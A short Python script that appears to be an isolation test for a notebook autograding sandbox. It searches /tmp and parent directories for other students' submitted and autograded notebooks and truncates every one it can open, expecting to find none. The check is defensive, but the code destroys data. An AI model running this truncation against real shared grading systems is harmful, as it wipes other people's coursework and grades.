"""Empties what the others handed in, and their graded notebooks.

Must find none.

Ends: ok
"""
# ruff: noqa

import glob
for folder in ("/tmp/*", "../../.."):
    for path in glob.glob(f"{folder}/submitted/*/*/*.ipynb") + glob.glob(f"{folder}/autograded/*/*/*.ipynb"):
        try:
            open(path, "w").close()
        except OSError as error:
            print(path, error)
